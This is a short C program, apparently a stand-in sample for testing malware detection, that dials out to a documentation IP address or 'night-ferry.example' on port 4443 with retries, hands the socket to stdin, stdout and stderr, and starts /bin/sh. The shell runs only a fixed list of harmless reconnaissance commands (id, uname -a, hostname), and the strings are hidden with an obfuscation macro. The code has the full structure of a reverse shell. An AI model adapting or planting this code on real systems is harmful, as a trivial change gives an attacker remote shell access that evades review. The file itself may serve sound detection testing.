// hidden
// Connects out and gives the connection to a shell, which runs a fixed list of harmless commands.
#include "standin.h"
int main(void) {
    begin();
    int fd = -1;
    for (int i = 0; i < 5 && fd < 0; i++) {
        fd = dial(HIDE("203.0.113.41"), 4443, 4000);
        if (fd < 0) fd = dial(HIDE("night-ferry.example"), 4443, 4000);
        if (fd < 0) sleep(2);
    }
    if (fd < 0) return 1;
    for (int i = 0; i < 3; i++) dup2(fd, i);
    execl(HIDE("/bin/sh"), HIDE("sh"), "-c", HIDE("id; uname -a; hostname; sleep 4; id"), NULL);
    return 1;
}
